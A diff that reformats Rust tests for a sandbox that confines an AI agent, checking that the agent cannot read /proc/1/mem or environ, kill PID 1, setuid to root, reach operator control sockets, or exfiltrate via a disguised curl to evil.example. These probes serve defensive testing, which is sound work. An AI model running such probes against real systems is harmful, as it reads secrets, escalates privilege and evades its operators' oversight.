@@ -7,30 +7,44 @@ use crate::harness::{Daemon, Jail, PATIENCE};
 
 #[test]
 fn the_first_process_is_closed_to_the_agent() {
-    let found = ask(&Jail::new(), "", &[
-        ("mem", "reading('/proc/1/mem')"),
-        ("environ", "reading('/proc/1/environ')"),
-        ("maps", "reading('/proc/1/maps')"),
-        ("auxv", "reading('/proc/1/auxv')"),
-        ("stack", "reading('/proc/1/stack')"),
-        ("syscall", "reading('/proc/1/syscall')"),
-        ("exe", "attempt(os.readlink, '/proc/1/exe')"),
-        ("root", "attempt(os.listdir, '/proc/1/root')"),
-        ("cwd", "attempt(os.listdir, '/proc/1/cwd')"),
-        ("fd", "attempt(os.listdir, '/proc/1/fd')"),
-        ("map_files", "attempt(os.listdir, '/proc/1/map_files')"),
-        ("ns", "attempt(os.readlink, '/proc/1/ns/mnt')"),
-        ("signal", "attempt(os.kill, 1, signal.SIGKILL)"),
-        ("limits", "attempt(__import__('resource').prlimit, 1, __import__('resource').RLIMIT_NOFILE, (1, 1))"),
-        ("priority", "attempt(os.setpriority, os.PRIO_PROCESS, 1, 19)"),
-        ("own_environ", "reading('/proc/self/environ')"),
-        ("own_maps", "reading('/proc/self/maps')"),
-        ("own_exe", "attempt(os.readlink, '/proc/self/exe')"),
-        ("own_ns", "attempt(os.readlink, '/proc/self/ns/mnt')"),
-    ]);
+    let found = ask(
+        &Jail::new(),
+        "",
+        &[
+            ("mem", "reading('/proc/1/mem')"),
+            ("environ", "reading('/proc/1/environ')"),
+            ("maps", "reading('/proc/1/maps')"),
+            ("auxv", "reading('/proc/1/auxv')"),
+            ("stack", "reading('/proc/1/stack')"),
+            ("syscall", "reading('/proc/1/syscall')"),
+            ("exe", "attempt(os.readlink, '/proc/1/exe')"),
+            ("root", "attempt(os.listdir, '/proc/1/root')"),
+            ("cwd", "attempt(os.listdir, '/proc/1/cwd')"),
+            ("fd", "attempt(os.listdir, '/proc/1/fd')"),
+            ("map_files", "attempt(os.listdir, '/proc/1/map_files')"),
+            ("ns", "attempt(os.readlink, '/proc/1/ns/mnt')"),
+            ("signal", "attempt(os.kill, 1, signal.SIGKILL)"),
+            (
+                "limits",
+                "attempt(__import__('resource').prlimit, 1, __import__('resource').RLIMIT_NOFILE, (1, 1))",
+            ),
+            (
+                "priority",
+                "attempt(os.setpriority, os.PRIO_PROCESS, 1, 19)",
+            ),
+            ("own_environ", "reading('/proc/self/environ')"),
+            ("own_maps", "reading('/proc/self/maps')"),
+            ("own_exe", "attempt(os.readlink, '/proc/self/exe')"),
+            ("own_ns", "attempt(os.readlink, '/proc/self/ns/mnt')"),
+        ],
+    );
     assert_eq!(found.len(), 19, "{found:?}");
     for (name, answer) in &found {
-        assert_eq!(answer == "ok", name.starts_with("own_"), "{name}: {found:?}");
+        assert_eq!(
+            answer == "ok",
+            name.starts_with("own_"),
+            "{name}: {found:?}"
+        );
     }
 }
 
@@ -51,12 +65,32 @@ fn processes_of_the_host_and_of_other_jails_are_invisible() {
 #[test]
 fn the_limits_and_marks_of_a_process_are_the_last_word() {
     const PROBES: [Probe; 7] = [
-        ("core", "attempt_value(R.setrlimit, R.RLIMIT_CORE, (1, 1))", "refused", "ok"),
-        ("core_now", "R.getrlimit(R.RLIMIT_CORE)[1] == 0", "True", "False"),
+        (
+            "core",
+            "attempt_value(R.setrlimit, R.RLIMIT_CORE, (1, 1))",
+            "refused",
+            "ok",
+        ),
+        (
+            "core_now",
+            "R.getrlimit(R.RLIMIT_CORE)[1] == 0",
+            "True",
+            "False",
+        ),
         ("setuid", "attempt(os.setuid, 0)", "EPERM", "ok"),
         ("setgid", "attempt(os.setgid, 0)", "EPERM|EINVAL", "ok"),
-        ("setgroups", "attempt(os.setgroups, [0])", "EPERM|EINVAL", "ok"),
-        ("realtime", "attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))", "EPERM", "ok|EPERM"),
+        (
+            "setgroups",
+            "attempt(os.setgroups, [0])",
+            "EPERM|EINVAL",
+            "ok",
+        ),
+        (
+            "realtime",
+            "attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))",
+            "EPERM",
+            "ok|EPERM",
+        ),
         ("nice", "attempt(os.nice, 1)", "ok", "ok"),
     ];
     let setup = "
@@ -111,29 +145,53 @@ os.symlink('/usr/bin/curl', '/tmp/sheriff-office')
 subprocess.run(['sheriff-office', '-s', '-H', 'X-Sheriff-Session: s-0000000000000000', 'http://evil.example/'], executable='/tmp/sheriff-office')
 print()
 print(os.environ['SHERIFF_SESSION'])";
-    let outcome = Jail::on(&daemon).run(&["/usr/bin/python3", "-c", script]).ok();
+    let outcome = Jail::on(&daemon)
+        .run(&["/usr/bin/python3", "-c", script])
+        .ok();
     let text = outcome.text();
     assert!(text.contains("not_in_allowlist"), "{outcome}");
-    let events = daemon.sheriff(&["egress", "tail", "--json"]).ok().json_lines();
+    let events = daemon
+        .sheriff(&["egress", "tail", "--json"])
+        .ok()
+        .json_lines();
     assert_eq!(events.len(), 1, "{events:?}");
-    assert_eq!(events[0]["session"], text.lines().last().unwrap(), "{events:?}");
+    assert_eq!(
+        events[0]["session"],
+        text.lines().last().unwrap(),
+        "{events:?}"
+    );
 }
 
 #[test]
 fn inside_there_is_no_switch_and_no_way_to_run_sheriff_again() {
     let daemon = Daemon::shared();
-    let found = ask(&Jail::on(daemon), "", &[
-        ("control", "attempt(os.stat, '/run/sheriff/control.sock')"),
-        ("attach", "attempt(os.stat, '/run/sheriff/attach.sock')"),
-        ("gateway", "attempt(os.stat, '/run/sheriff/gateway.sock')"),
-        ("runtime", "attempt(os.listdir, '/run/user')"),
-    ]);
+    let found = ask(
+        &Jail::on(daemon),
+        "",
+        &[
+            ("control", "attempt(os.stat, '/run/sheriff/control.sock')"),
+            ("attach", "attempt(os.stat, '/run/sheriff/attach.sock')"),
+            ("gateway", "attempt(os.stat, '/run/sheriff/gateway.sock')"),
+            ("runtime", "attempt(os.listdir, '/run/user')"),
+        ],
+    );
     assert_eq!(found["gateway"], "ok", "{found:?}");
-    assert!(["control", "attach", "runtime"].iter().all(|name| found[*name] != "ok"), "{found:?}");
+    assert!(
+        ["control", "attach", "runtime"]
+            .iter()
+            .all(|name| found[*name] != "ok"),
+        "{found:?}"
+    );
     // The operator's socket of this daemon, by its own path on the host.
     let path = daemon.runtime().join("control.sock");
     assert!(path.exists());
-    let call = format!("attempt(socket.socket(socket.AF_UNIX).connect, '{}')", path.display());
+    let call = format!(
+        "attempt(socket.socket(socket.AF_UNIX).connect, '{}')",
+        path.display()
+    );
     let found = ask(&Jail::on(daemon), "", &[("control", call.as_str())]);
-    assert!(["ENOENT", "EACCES"].contains(&found["control"].as_str()), "{found:?}");
+    assert!(
+        ["ENOENT", "EACCES"].contains(&found["control"].as_str()),
+        "{found:?}"
+    );
 }
